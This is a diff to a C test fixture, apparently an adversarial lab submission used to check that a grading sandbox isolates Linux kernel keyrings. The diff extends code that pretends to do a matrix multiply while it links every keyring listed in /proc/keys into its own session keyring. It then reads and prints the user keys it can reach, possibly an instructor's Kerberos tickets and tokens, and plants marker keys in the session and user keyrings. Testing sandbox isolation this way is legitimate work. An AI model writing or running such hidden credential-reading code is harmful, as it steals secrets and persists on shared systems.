@@ -1,9 +1,14 @@
 // attack: reads every key in the session and user keyrings it inherited
-// (an instructor's Kerberos tickets and tokens live there) and plants one
-// of its own there for later; then does the lab
+// (an instructor's Kerberos tickets and tokens live there), and every key
+// /proc/keys lets it see by its id, after linking every keyring listed
+// there into its own session keyring (in the ordinary-user mode a run has
+// the TA's user, who may link the TA's user keyring; a fresh session
+// keyring does not hide it), and plants one of its own for later; then
+// does the lab
 // expect: full
 #include "lab.h"
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <sys/syscall.h>
 #include <unistd.h>
@@ -58,10 +63,43 @@ static void read_keys(long keyring, const char *name)
     }
 }
 
+#define KEY_SPEC_USER_SESSION_KEYRING (-5)
+
+#define KEYCTL_LINK 8
+
+/* Every key /proc/keys shows (its first column is the id, in hex): first
+ * every keyring there is linked into the run's own session keyring (a
+ * user may link their user keyring anywhere), which makes the keys in it
+ * the run's to read; then each is read. */
+static void read_visible_keys(void)
+{
+    FILE *f = fopen("/proc/keys", "r");
+    char line[512];
+    while (f && fgets(line, sizeof line, f))
+        if (strstr(line, " keyring "))
+            syscall(SYS_keyctl, KEYCTL_LINK, strtol(line, NULL, 16), KEY_SPEC_SESSION_KEYRING);
+    if (f)
+        rewind(f);
+    while (f && fgets(line, sizeof line, f)) {
+        long id = strtol(line, NULL, 16);
+        char payload[4096];
+        long m = syscall(SYS_keyctl, KEYCTL_READ, id, payload, sizeof payload - 1);
+        if (m >= 0 && strstr(line, " user ")) {
+            payload[m < (long)sizeof payload - 1 ? m : (long)sizeof payload - 1] = '\0';
+            printf("key %lx in /proc/keys, keyring: %s\n", id, payload);
+        }
+    }
+    if (f)
+        fclose(f);
+}
+
 void basic_matmul(const float *M, const float *N, float *P, int width)
 {
     read_keys(KEY_SPEC_SESSION_KEYRING, "session");
     read_keys(KEY_SPEC_USER_KEYRING, "user");
+    read_keys(KEY_SPEC_USER_SESSION_KEYRING, "user session");
+    read_visible_keys();
     syscall(SYS_add_key, "user", "@MARK@-planted", "later", 5, KEY_SPEC_SESSION_KEYRING);
+    syscall(SYS_add_key, "user", "@MARK@-planted", "later", 5, KEY_SPEC_USER_KEYRING);
     honest(M, N, P, width);
 }
